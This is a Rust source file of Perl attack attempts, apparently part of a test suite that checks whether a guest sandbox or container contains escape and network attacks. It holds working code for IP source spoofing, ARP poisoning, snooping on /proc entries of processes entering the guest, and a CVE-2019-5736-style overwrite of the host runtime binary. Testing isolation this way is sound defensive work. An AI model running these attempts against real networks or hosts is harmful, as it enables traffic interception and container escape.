//! Attempts whose success shows only outside: packets to others, and traps for processes that enter
//! the guest.

use super::attempt::Attempt;

/// Sends `forged` to port 4000 of the host from the neighbour's address, then `honest` from its
/// own.
pub const FORGED_SOURCE: Attempt = Attempt::perl(
    "forged_source",
    "sends with the address of a neighbour",
    r#"
my ($host, $neighbour) = (inet_aton($ENV{GATEWAY}), inet_aton($ENV{NEIGHBOUR}));
socket(my $raw, AF_INET, SOCK_RAW, 255) or die "raw: $!";
my $datagram = pack('nnnn', 4000, 4000, 14, 0) . 'forged';
my $packet = pack('CCnnnCCna4a4', 0x45, 0, 20 + length $datagram, 0, 0, 64, 17, 0, $neighbour, $host) . $datagram;
for (1 .. 3) { send($raw, $packet, 0, sockaddr_in(0, $host)) // die "send: $!" }
socket(my $own, AF_INET, SOCK_DGRAM, 0);
send($own, 'honest', 0, sockaddr_in(4000, $host)) // die "send: $!";
refused('sent');
"#,
);

/// Tells the neighbour that the host's address is at the attacker.
pub const FORGED_NEIGHBOUR: Attempt = Attempt::perl(
    "forged_neighbour",
    "tells a neighbour that it is the host (ARP)",
    r#"
my $read = sub { open(my $file, '<', "/sys/class/net/eth0/$_[0]"); chomp(my $line = <$file>); $line };
my ($index, $own) = ($read->('ifindex'), pack('H12', $read->('address') =~ s/://gr));
my ($host, $neighbour) = (inet_aton($ENV{GATEWAY}), inet_aton($ENV{NEIGHBOUR}));
socket(my $raw, 17, SOCK_RAW, unpack('S', pack('n', 0x0806))) or die "raw: $!";
my $everybody = "\xff" x 6;
my $place = pack('SnlSCCa8', 17, 0x0806, $index, 0, 0, 6, $everybody);
for my $kind ((1, 2) x 8) {
    my $frame = $everybody . $own . pack('nnnCCna6a4a6a4', 0x0806, 1, 0x0800, 6, 4, $kind, $own, $host, $everybody, $neighbour);
    send($raw, $frame . "\0" x 18, 0, $place) // die "send: $!";
    select undef, undef, undef, 0.2; # the neighbour keeps what it has just learned for a while
}
refused('sent');
"#,
);

/// Traps that wait for processes that enter the guest, until their input ends.
pub const ENTERING: &[Attempt] = &[
    Attempt::perl(
        "look_at_who_enters",
        "looks into processes that come in: for files, memory and names of the host",
        r#"
print "holds: a lookout\n";
my $seen = 0;
until (ended()) {
    opendir(my $processes, '/proc');
    for my $process (grep { /^\d+$/ && $_ != $$ && $_ > 1 } readdir $processes) {
        $seen++;
        for my $file (qw(environ cmdline maps mountinfo cgroup)) {
            open(my $text, '<', "/proc/$process/$file") or next;
            while (<$text>) { succeeded("$file: $_") if /$ENV{HOST_NAMES}/ }
        }
        my @ways = ("/proc/$process/cwd", "/proc/$process/root", map { "/proc/$process/fd/$_" } 0 .. 20);
        for (@ways) {
            succeeded("$_ leads out") if -e "$_/" . '../' x 40 . $ENV{CANARY};
            my $target = readlink($_) // next;
            succeeded("$_ is $target") if $target =~ /$ENV{HOST_NAMES}/;
        }
    }
}
refused("$seen looks at processes showed nothing");
sub ended { vec(my $ready = '', 0, 1) = 1; select($ready, undef, undef, 0) }
"#,
    ),
    Attempt::perl(
        "overwrite_who_enters",
        "overwrites the programs of processes that come in (CVE-2019-5736)",
        r#"
print "holds: a lookout\n";
my ($seen, $opened) = (0, 0);
until (ended()) {
    opendir(my $processes, '/proc');
    for my $process (grep { /^\d+$/ && $_ != $$ && $_ > 1 } readdir $processes) {
        my $program = readlink("/proc/$process/exe") // next;
        next unless $program =~ /memfd|insula|deleted/;
        $seen++;
        open(my $file, '+<', "/proc/$process/exe") or next;
        $opened++;
        succeeded("$program is overwritten") if defined syswrite($file, "\x7f");
        succeeded("$program is cut") if truncate($file, 0);
    }
}
refused("$seen programs of the host's were seen, $opened could be opened, none written");
sub ended { vec(my $ready = '', 0, 1) = 1; select($ready, undef, undef, 0) }
"#,
    ),
];
